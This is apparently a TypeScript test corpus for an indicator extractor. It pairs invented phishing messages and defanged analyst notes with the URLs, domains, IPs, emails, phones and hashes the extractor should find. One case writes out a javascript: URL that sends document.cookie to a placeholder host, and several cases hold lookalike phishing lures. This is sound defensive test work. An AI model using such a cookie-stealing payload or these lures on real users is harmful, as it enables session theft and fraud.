/**
 * Real-world-shaped phishing reports and chat messages, written for the tests (no real person, domain
 * owner or message), with the entities extraction must find in them, in the order found (link targets
 * first, then the text in reading order; a URL followed by its registrable domain).
 * Each expected row: [type, value, typed (the form written, when it differs), flags].
 * Addresses are from the documentation ranges (RFC 5737, RFC 3849) and the .example / example.com names.
 */

export type Row = [type: string, value: string, typed?: string, flags?: string];

export interface CorpusCase {
  name: string;
  text: string;
  /** A message's link targets (<a href>), when the text came from HTML. */
  links?: string[];
  expected: Row[];
  /** Found but not kept (over 100). */
  notKept?: number;
}

const SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
const SHA1 = "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3";

export const CORPUS: CorpusCase[] = [
  {
    name: "an employee forwards a smishing text in their own words",
    text: "I got a text from +44 7700 900123 this morning saying my parcel is held, it linked to paypa1-login.com. I did not click.",
    expected: [
      ["phone", "+447700900123", "+44 7700 900123"],
      ["domain", "paypa1-login.com"],
    ],
  },
  {
    name: "an analyst's defanged indicators: hxxp, [.], (dot), [@], [:]",
    text:
      "IOCs from the sandbox: hxxps://login-micros0ft[.]example/owa/auth.php, C2 198.51.100[.]23:8443, " +
      "dropper sent from billing[@]invoices-portal[.]com, payload host cdn(dot)evil-files(dot)net and 2001:db8:0:0:0:0:0:bad[:]",
    expected: [
      ["url", "https://login-micros0ft.example/owa/auth.php", "hxxps://login-micros0ft[.]example/owa/auth.php"],
      ["domain", "login-micros0ft.example", undefined, "reserved"],
      ["ip", "198.51.100.23", "198.51.100[.]23", "reserved"],
      ["email", "billing@invoices-portal.com", "billing[@]invoices-portal[.]com"],
      ["domain", "cdn.evil-files.net", "cdn(dot)evil-files(dot)net"],
      ["ip", "2001:db8::bad", "2001:db8:0:0:0:0:0:bad", "reserved"],
    ],
  },
  {
    name: "a phishing mail pasted with its headers: display names, angle brackets, Reply-To",
    text:
      'From: "PayPal" <service@paypa1-login.com>\nReply-To: PayPal Support <Support@PayPa1-Login.com>\n' +
      "Subject: Your account has been limited\n\nDear customer, confirm your details within 24 hours: " +
      "https://paypa1-login.com/secure/confirm?session=8f2a",
    expected: [
      ["email", "service@paypa1-login.com"],
      ["email", "support@paypa1-login.com", "Support@PayPa1-Login.com"],
      ["url", "https://paypa1-login.com/secure/confirm?session=8f2a"],
      ["domain", "paypa1-login.com"],
    ],
  },
  {
    name: "a Teams message whose link words say one place and whose target is another",
    text: "Please review the new policy at https://intranet.contoso.com/policies before Friday.",
    links: ["https://contoso-policies.example.net/login?next=%2Fpolicies", "https://intranet.contoso.com/policies"],
    expected: [
      ["url", "https://contoso-policies.example.net/login?next=%2Fpolicies"],
      ["domain", "example.net"],
      ["url", "https://intranet.contoso.com/policies"],
      ["domain", "contoso.com"],
    ],
  },
  {
    name: "link targets that are not web pages: mailto:, tel:, an anchor and a relative link",
    text: "Contact us",
    links: ["mailto:Helpdesk@Contoso-Support.example.com?subject=reset", "tel:+1-202-555-0143", "#top", "/relative/path"],
    expected: [
      ["email", "helpdesk@contoso-support.example.com", "Helpdesk@Contoso-Support.example.com"],
      ["phone", "+12025550143", "+1-202-555-0143"],
    ],
  },
  {
    name: "javascript: and data: URLs: kept as evidence, flagged",
    text: "The button ran javascript:fetch('//x.example/k?c='+document.cookie) and the attachment was data:text/html;base64,PHNjcmlwdD4=",
    links: ["JavaScript:alert(document.domain)"],
    expected: [
      ["url", "JavaScript:alert(document.domain)", undefined, "script"],
      ["url", "javascript:fetch('//x.example/k?c='+document.cookie)", undefined, "script"],
      ["url", "data:text/html;base64,PHNjcmlwdD4=", undefined, "script"],
    ],
  },
  {
    name: "IDNs: punycode and Unicode are one domain; a Cyrillic а among Latin letters is flagged",
    text: "Two lookalikes: xn--pypal-4ve.com and pаypal.com (the second a is Cyrillic). Also bücher.example.de and https://xn--bcher-kva.example.de/",
    expected: [
      ["domain", "xn--pypal-4ve.com", "pаypal.com", "idn,mixed-script"],
      ["domain", "xn--bcher-kva.example.de", "bücher.example.de", "idn"],
      ["url", "https://xn--bcher-kva.example.de/", undefined, "idn"],
      ["domain", "example.de"],
    ],
  },
  {
    name: "IPv6 (compressed, full, in a URL, IPv4-mapped), private and reserved ranges",
    text:
      "Beacons to 2001:db8::7 and 2001:0db8:0000:0000:0000:0000:0000:0007 (same host), http://[2001:db8::1]:8080/c2, " +
      "from the laptop at 10.1.2.3 via 192.168.0.1, loopback 127.0.0.1, mapped ::ffff:203.0.113.9, public 8.8.8.8",
    expected: [
      ["ip", "2001:db8::7", "2001:0db8:0000:0000:0000:0000:0000:0007", "reserved"],
      ["url", "http://[2001:db8::1]:8080/c2"],
      ["ip", "2001:db8::1", undefined, "reserved"],
      ["ip", "10.1.2.3", undefined, "private"],
      ["ip", "192.168.0.1", undefined, "private"],
      ["ip", "127.0.0.1", undefined, "private"],
      // The IPv4 address it maps, as written.
      ["ip", "203.0.113.9", "::ffff:203.0.113.9", "reserved"],
      ["ip", "8.8.8.8"],
    ],
  },
  {
    name: "file hashes, upper and lower case; an MD5 and a 63-character string are not taken",
    text: `SHA256 ${SHA256.toUpperCase()} / SHA1 ${SHA1} / MD5 098f6bcd4621d373cade4e832627b4f6 / ${SHA256.slice(1)}`,
    expected: [
      ["file", SHA256, SHA256.toUpperCase()],
      ["file", SHA1],
    ],
  },
  {
    name: "what is not an indicator: a bad IP (not the IP inside it), a file name with an unknown ending, a time, a local phone number, a number starting 00",
    text: "Server 10.0.0.300 failed; installer setup.exe; call 020 7946 0958; invoice 0044123456789; the meeting is at 10:30; price 1,000.50",
    expected: [],
  },
  {
    name: "a URL over 1,000 characters is left out; the short one beside it is kept",
    text: `https://long.example.com/${"a".repeat(1000)} and https://short.example.com/x`,
    expected: [
      ["url", "https://short.example.com/x"],
      ["domain", "example.com"],
    ],
  },
  {
    name: "the same indicator written three ways is one entity",
    text: "hxxp://evil[.]example/a then http://evil.example/a then HTTP://EVIL.EXAMPLE/a",
    expected: [
      ["url", "http://evil.example/a", "hxxp://evil[.]example/a"],
      ["domain", "evil.example", undefined, "reserved"],
    ],
  },
  {
    name: "more than 100 indicators: the first 100 kept in the order found, the rest counted",
    text: Array.from({ length: 150 }, (_, i) => `198.51.100.${i}`).join(", "),
    expected: Array.from({ length: 100 }, (_, i): Row => ["ip", `198.51.100.${i}`, undefined, "reserved"]),
    notKept: 50,
  },
];
